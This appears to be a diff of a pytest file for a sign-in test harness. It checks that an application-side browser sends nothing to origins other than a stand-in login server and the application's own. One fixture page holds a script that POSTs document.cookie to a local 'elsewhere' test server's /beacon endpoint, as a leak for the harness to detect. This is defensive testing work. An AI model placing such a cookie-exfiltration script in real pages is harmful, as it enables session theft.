@@ -1,6 +1,8 @@
 """The application side's browser: once the test user's password is typed into the stand-in's
-login page, the browser context reaches only the stand-in and the application's own origins; an
-application page that sends anything elsewhere ends the sign-in, naming the origin."""
+login page, the browser context reaches only the stand-in and the application's own origins. An
+application page that sends a body or a secret elsewhere ends the sign-in, naming the origin and the
+application file's keys; one that only asks for an image, a font or a script elsewhere (Auth.js's
+sign-in error page loads its logo from https://authjs.dev) is aborted quietly, and the sign-in goes on."""
 
 import os
 from types import SimpleNamespace
@@ -18,14 +20,23 @@ LOGIN = b"""<!doctype html><form method="post" action="/account/login"><input id
 <input id="password" name="password" type="password"><button id="sign-in" type="submit">Sign in</button></form>"""
 
 
-@pytest.mark.parametrize("elsewhere_sent", [False, True], ids=["own-origins", "another-origin"])
+@pytest.mark.parametrize(
+    "elsewhere_sent", ["nothing", "an image, a font and a script", "a body"], ids=["own", "cdn", "body"]
+)
 def test_after_the_password_is_typed_the_application_side_browser_reaches_only_allowed_origins(elsewhere_sent):
     from appside.browser_driver import BrowserDriver
 
     elsewhere = HostileServer({})
     stand_in = HostileServer({})
     app = HostileServer({})
-    leak = f'<script>fetch("{elsewhere.url}/beacon?d=" + document.cookie, {{mode: "no-cors"}})</script>'
+    page = {
+        "nothing": "",
+        "an image, a font and a script": f'<img src="{elsewhere.url}/img/providers/visma.svg"><script '
+        f'src="{elsewhere.url}/lib.js"></script><style>@font-face {{font-family: f; src: url({elsewhere.url}/f.woff)}}'
+        '</style><p style="font-family: f">.</p>',
+        "a body": f'<script>fetch("{elsewhere.url}/beacon", {{method: "POST", body: "d=" + document.cookie, '
+        'mode: "no-cors"})</script>',
+    }[elsewhere_sent]
     stand_in.routes.update(
         {
             "/account/login": lambda body: (
@@ -38,9 +49,7 @@ def test_after_the_password_is_typed_the_application_side_browser_reaches_only_a
     app.routes.update(
         {
             "/": Answer(302, {"Location": stand_in.url + "/account/login"}),
-            "/callback": Answer(
-                200, {"Content-Type": "text/html"}, f"<p>signed in</p>{leak if elsewhere_sent else ''}".encode()
-            ),
+            "/callback": Answer(200, {"Content-Type": "text/html"}, f"<p>signed in</p>{page}".encode()),
         }
     )
     application = SimpleNamespace(
@@ -57,9 +66,11 @@ def test_after_the_password_is_typed_the_application_side_browser_reaches_only_a
     driver = BrowserDriver(application, stand_in.url, SimpleNamespace(username="test.user", password="pw-7Q!x"))
     try:
         session = driver.session()
-        if elsewhere_sent:
-            with pytest.raises(UntrustedEndpoint, match=elsewhere.url.split("//")[1]):
+        if elsewhere_sent == "a body":
+            with pytest.raises(UntrustedEndpoint, match=elsewhere.url.split("//")[1]) as refused:
                 session.sign_in()
+            # what to do names the application file's keys, not an environment's
+            assert "drive.sign_in_url" in str(refused.value) and "trusted_origins" not in str(refused.value)
         else:
             assert session.sign_in().finished
         session.close()
@@ -69,3 +80,20 @@ def test_after_the_password_is_typed_the_application_side_browser_reaches_only_a
             server.close()
     assert elsewhere.requests == []
     assert [p for m, p, _, _ in stand_in.requests if m == "POST"] == ["/account/login"]
+
+
+def test_a_refusal_of_the_fence_is_its_own_cause_not_blocked_by_a_rule_that_failed_too():
+    """Auth.js without PKCE: the fence stopped APPC-19's sign-in at its error page's logo, and the record said
+    "APPC-19 blocked by APPC-06"; the refusal is the cause, whichever step's sign-in it stopped."""
+    from appside.conftest import pytest_bdd_step_error
+    from suite.verdict.checks import NothingToCheck
+
+    def failed_step(step_type, exception):
+        request = SimpleNamespace(node=SimpleNamespace(user_properties=[]))
+        step = SimpleNamespace(type=step_type, keyword="When", name="the sign-in is declined")
+        pytest_bdd_step_error(request, None, None, step, None, None, exception)
+        return dict(request.node.user_properties)["failed_step"]
+
+    assert failed_step("when", UntrustedEndpoint("refused to send a request body"))["own_check"] is True
+    assert failed_step("when", RuntimeError("the application's page broke"))["own_check"] is False
+    assert failed_step("then", NothingToCheck("no token"))["nothing_to_check"] is True
